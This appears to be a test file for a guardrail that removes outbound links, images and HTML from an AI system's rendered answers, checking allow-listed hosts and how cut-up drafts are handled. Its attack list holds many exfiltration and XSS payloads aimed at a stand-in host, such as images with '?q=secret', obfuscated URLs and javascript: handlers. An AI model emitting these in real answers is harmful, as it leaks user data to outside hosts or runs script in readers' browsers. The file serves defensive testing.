"""What a rendered answer could fetch or open: nothing but allow-listed hosts and our own pages."""

import re

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st
from lxml import html
from markdown_it import MarkdownIt

from retrieval.guardrails.hosts import is_allowed, is_own_page
from tests.retrieval.guardrails.watching import ALLOWED_HOST, ScriptedDraft, cut, guardrail, policy, watch

RENDERER = MarkdownIt("commonmark", {"html": True})  # the most trusting renderer there is
FETCHING = (
    "src",
    "href",
    "srcset",
    "data",
    "action",
    "formaction",
    "background",
    "poster",
    "xlink:href",
    "style",
)
EVIL = "evil.example"


def outbound(answer: str) -> list[str]:
    """Addresses outside the allow-list, and images, scripts and handlers, in an answer once rendered."""
    rendered = RENDERER.render(answer)
    if not rendered.strip():
        return []
    found = []
    for element in html.fragment_fromstring(rendered, create_parent="div").iter():
        found += [name for name in element.attrib if name.startswith("on")]
        if element.tag in {
            "img",
            "script",
            "iframe",
            "svg",
            "style",
            "base",
            "link",
            "object",
            "embed",
            "meta",
        }:
            found.append(str(element.tag))
        for name in FETCHING:
            address = element.get(name)
            if address and not (is_own_page(address) or is_allowed(address, [ALLOWED_HOST])):
                found.append(address)
    return found


ATTACKS = {
    "inline": f"[here](http://{EVIL}/?q=secret)",
    "inline with title": f'[here]( http://{EVIL}/ "a title" )',
    "inline over lines": f"[here](\nhttp://{EVIL}/\n'a title')",
    "angled": f"[here](<http://{EVIL}/a b>)",
    "parentheses": f"[here](http://{EVIL}/(a)(b))",
    "unclosed title": f'[here](http://{EVIL}/ "a',
    "schemeless": f"[here](//{EVIL}/a)",
    "backslashes": rf"[here](/\\{EVIL}/a) [there](\\\\{EVIL})",
    "escaped": rf"[here](http\://{EVIL}/a) [there](h&#116;tp://{EVIL}) [x](&sol;&sol;{EVIL})",
    "relative": "[here](page.html) [there](?q=secret) [and](/search?q=secret)",
    "userinfo": f"[here](http://{ALLOWED_HOST}@{EVIL}/) [b](http://{EVIL}\\@{ALLOWED_HOST}/)",
    "suffix": f"[here](http://{ALLOWED_HOST}.{EVIL}/) [b](http://x{ALLOWED_HOST}/)",
    "other port": f"[here](http://{ALLOWED_HOST}:8080/)",
    "javascript": "[here](javascript:alert(1)) [b](JaVaScRiPt:alert(1)) [c](java&#x09;script:alert(1))",
    "data address": "[here](data:text/html;base64,PHNjcmlwdD4=)",
    "mail address": f"[here](mailto:x@{EVIL}?body=secret)",
    "by reference": f"[here][r] and [r]\n\n[r]: http://{EVIL}/ 'title'\n",
    "by reference, next line": f"[here][r]\n\n[r]:\n   <//{EVIL}/>\n",
    "by reference, in a quotation": f"> [here][r]\n>\n> [r]: //{EVIL}/",
    "autolink": f"<http://{EVIL}/?q=secret>",
    "other autolink": f"<ftp://{EVIL}/> <x:secret>",
    "bare": f"http://{EVIL}/?q=secret and HTTPS:{EVIL} and www.{EVIL}/a",
    "image": f"![seen](http://{EVIL}/?q=secret)",
    "image of an allowed host": f"![seen](https://{ALLOWED_HOST}/a.png)",
    "image of our own": "![seen](/media/1.png)",
    "image by reference": f"![seen][r] ![r]\n\n[r]: http://{EVIL}/a.png\n",
    "image with a long description": f"![{'seen ' * 60}](http://{EVIL}/?q=secret)",
    "image in a link": f"[![seen](http://{EVIL}/a)](http://{EVIL}/b)",
    "image tag": f'<img src="http://{EVIL}/a">',
    "image tag over lines": f"<IMG\nsrc='//{EVIL}/a'\nonerror=alert(1)>",
    "unclosed image tag": f"<img src='http://{EVIL}/a' alt='{'a ' * 200}'>",
    "source set": f"<img srcset='//{EVIL}/a 2x'><source srcset=//{EVIL}/b>",
    "anchor tag": f"<a href=http://{EVIL}/>here</a> <a href='&#104;ttp://{EVIL}'>there</a>",
    "script": "<script>alert(1)</script> <svg/onload=alert(1)> <math><a xlink:href=x>",
    "style": f"<style>a{{background:url(//{EVIL}/)}}</style> <b style='background:url(//{EVIL})'>b</b>",
    "base": f"<base href=//{EVIL}/> <link rel=prefetch href=//{EVIL}/> <meta http-equiv=refresh content=0>",
    "comment": f"<!-- <img src=//{EVIL}> --> <!DOCTYPE html> <?x ?> <![CDATA[<img src=x>]]>",
    "custom tag": "<x-frame onclick=alert(1)> <secret onclick=alert(1)> <EMAIL_ADDRESS onclick=alert(1)>",
    "mail tag": "<a@b.c/onclick=alert(1)> <a@b.c onclick=alert(1)>",
    "joined by a removed tag": f"ht<b></b>tp://{EVIL} [x](ht<i></i>tp://{EVIL}) <im<b></b>g src=x>",
    "joined by a removed mark": f"[x](http [9]://{EVIL}) [x](htt[9]p://{EVIL}) [x][9](http://{EVIL})",
    "joined by a hidden character": f"[x](ht\u200btp://{EVIL}) !\u200b[x](a) <\u2060img src=x>",
    "null and controls": f"[x](ht\0tp://{EVIL}) <\0img src=x> [x](java\tscript:a)",
}


@pytest.mark.parametrize("attack", ATTACKS)
def test_a_rendered_answer_leads_nowhere_however_the_attack_is_cut(attack: str) -> None:
    text = f"So it is [1]. {ATTACKS[attack]}\n\nAnd that is all [2]."
    whole = watch(text)

    assert outbound(whole.text) == []
    assert not re.search(rf"(?i)[a-z]:[\\/]*{EVIL}|www\.{EVIL}", whole.text)
    for at in range(0, len(text), 1 + len(text) // 100):
        assert watch(ScriptedDraft([text[:at], text[at:]])).text == whole.text


FRAGMENTS = st.one_of(
    st.sampled_from("[]()<>!:/\\\"'&;#= \n\t.-a1"),
    st.sampled_from(["](", "![", "[r]:", "[r]", "[1]", "[9]", "\n\n", "\n> ", "word ", "\u200b", "x" * 130]),
    st.sampled_from(
        [f"http://{EVIL}", f"//{EVIL}", EVIL, f"https://{ALLOWED_HOST}/a", "www.", "javascript:"]
    ),
    st.sampled_from(["<img ", "src=", "<a ", "href=", "</a>", "<b>", "<script>", "<!--", "-->"]),
    st.sampled_from(["data:text/html,", "&#58;", "&sol;", "&colon;"]),
)


@settings(max_examples=200, deadline=None)
@given(st.lists(FRAGMENTS, max_size=40), st.lists(st.integers(1, 40), min_size=1, max_size=8))
@example(["[", "a", "](", "\\", "\\", "\\", "\\", EVIL, ")"], [1])
def test_no_composition_of_markup_gets_out(fragments: list[str], sizes: list[int]) -> None:
    text = "".join(fragments)
    watched = watch(ScriptedDraft(cut(text, sizes)))

    assert outbound(watched.text) == []
    assert watched.text == watch(text).text


@pytest.mark.parametrize(
    ("written", "released"),
    [
        (f"See [the page](http://{EVIL}/x).", "See the page [link removed]."),
        (f"See http://{EVIL}/x, then go on.", "See [link removed], then go on."),
        (f"See <http://{EVIL}/x>.", "See <[link removed]>."),
        (f"A ![diagram](https://{ALLOWED_HOST}/d.png) of it.", "A [image removed] of it."),
        ("A ![diagram][d] and ![another] of it.", "A [image removed] and [image removed] of it."),
        (f"At https&colon;&sol;&sol;{EVIL}/q or so.", "At [link removed] or so."),
        ("Sources:\n\n[1]: Handbook", "Sources:\n\n[1] : Handbook"),
        ("A <b>bold</b> word.", "A bold word."),
        ("A `List<String>` of it, if a<b.", "A `List< String>` of it, if a< b."),
        ("Great![1] Good [1]!", "Great![1] Good [1]!"),
    ],
)
def test_text_stays_when_its_link_goes(written: str, released: str) -> None:
    assert watch(written).text == released


@pytest.mark.parametrize(
    "text",
    [
        f"See [the page](https://{ALLOWED_HOST}/a/b?c=d#e) [1].",
        f'See [the page](https://{ALLOWED_HOST}/a "Title").',
        f"See https://{ALLOWED_HOST}/a_(b) or <https://{ALLOWED_HOST}/>.",
        "See [this passage](#passage-1) or [that](/documents/7/#c2).",
        "At 10:30, a ratio 3:4, data: none, and/or //, C:\\files, x < y, a[0] = {b: 1}.",
        "Write to <EMAIL_ADDRESS> or <PHONE_NUMBER_2>, said <ada@acme.example>.",
        "| a | b |\n|---|---|\n| 1 | 2 |\n\n- item\n* item\n1. item\n\n> quote\n\n```\ncode\n```\n",
    ],
)
def test_what_may_stand_is_left_as_it_is(text: str) -> None:
    watched = watch(text)

    assert watched.text == text.replace("a[0]", "a")
    assert "link.host" not in watched.rules


@pytest.mark.parametrize(
    ("url", "allowed"),
    [
        ("https://acme.example/x", True),
        ("http://acme.example:80/", True),
        ("HTTPS://ACME.example/", True),
        ("https://acme.example:8443/", False),
        ("https://dev.acme.example:8443/", True),
        ("https://www.acme.example/", False),
        ("https://a.b.wiki.example/", True),
        ("https://wiki.example/", False),
        ("https://evilwiki.example/", False),
        ("https://acme.example@evil.example/", False),
        ("https://evil.example\\@acme.example/", False),
        ("https://acme.example%2eevil.example/", False),
        ("https://evil.example&sol;a.wiki.example/", False),
        ("https://\u0430cme.example/", False),
        ("ftp://acme.example/", False),
        ("//acme.example/", False),
        ("https://[::1/", False),
        ("https:///acme.example", False),
        ("", False),
    ],
)
def test_a_host_is_allowed_exactly_or_by_a_wildcard(url: str, allowed: bool) -> None:
    assert is_allowed(url, ["acme.example", "dev.acme.example:8443", "*.wiki.example"]) is allowed


def test_without_allowed_hosts_every_absolute_link_goes() -> None:
    by = guardrail(policy("only.example"))

    assert watch(f"[a](https://{ALLOWED_HOST}/)", by).text == "a [link removed]"
